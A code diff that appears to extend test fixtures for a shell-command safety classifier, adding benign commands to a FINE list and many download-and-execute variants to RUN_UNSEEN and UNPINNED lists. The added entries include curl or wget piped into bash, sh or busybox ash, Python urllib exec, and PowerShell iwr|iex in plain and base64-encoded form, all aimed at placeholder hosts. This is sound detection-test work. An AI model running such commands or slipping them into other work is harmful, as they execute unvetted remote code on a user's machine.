@@ -12,6 +12,7 @@ const FINE = [
   "/bin/true",
   "/bin/sh -c 'apt-get update && apt-get install -y curl wget'",
   "/bin/sh -c 'command -v curl >/dev/null || exit 1; echo ready | tee log'",
+  "/bin/sh -c 'cd curl-8.5.0/src && make; curl --version | tee log; ls /etc/ssl/certs'",
 ];
 
 /** Commands that execute what they download. */
@@ -24,6 +25,17 @@ const RUN_UNSEEN = [
   `/bin/bash -c '. <(curl -s ${URL})'`,
   `sh -c "$(curl -fsSL ${URL})"`,
   `/bin/sh -c 'eval "$(wget -qO- ${URL})"'`,
+  `/bin/sh -c 'curl -fsSL ${URL} \\\n  | bash'`,
+  `/bin/sh -c 'curl -fsSL ${URL} |\n  bash'`,
+  "/bin/sh -c 'curl get.example.com/setup.sh | sh'",
+  `/bin/sh -c 'curl ${URL} | tee log | sudo -H -u root bash -s -- --yes'`,
+  `/bin/sh -c 'curl ${URL} | xargs -0 bash -c'`,
+  `/bin/sh -c 'wget -qO- ${URL} | busybox ash'`,
+  `/bin/bash -c 'bash <<< "$(curl -s ${URL})"'`,
+  `/bin/bash -c 'bash -s -- < <(curl -s ${URL})'`,
+  `/bin/bash -c 'source /dev/stdin <<< "$(curl -s ${URL})"'`,
+  `python3 -c 'import urllib.request as u; exec(u.urlopen("${URL}").read())'`,
+  `powershell -EncodedCommand ${Buffer.from(`iwr ${URL} | iex`, "utf16le").toString("base64")}`,
   `powershell -Command "iwr ${URL} | iex"`,
   `powershell -Command "iex ((New-Object Net.WebClient).DownloadString('${URL}'))"`,
 ];
@@ -32,6 +44,8 @@ const RUN_UNSEEN = [
 const UNPINNED = [
   `/bin/sh -c 'curl -o setup.sh ${URL} && sh setup.sh'`,
   `/bin/sh -c 'curl -o setup.sh "$URL"; sha256sum setup.sh.sha256; sh setup.sh'`,
+  "/bin/sh -c 'curl -O get.example.com/setup.sh; sh setup.sh'",
+  "/bin/sh -c 'wget get.example.com:8443/setup.sh && sh setup.sh'",
   `powershell -Command "Start-BitsTransfer ${URL} a.exe; .\\a.exe"`,
   `/bin/sh -c 'az storage blob download --auth-mode login --blob-url ${URL} --file a; sh a'`,
 ];
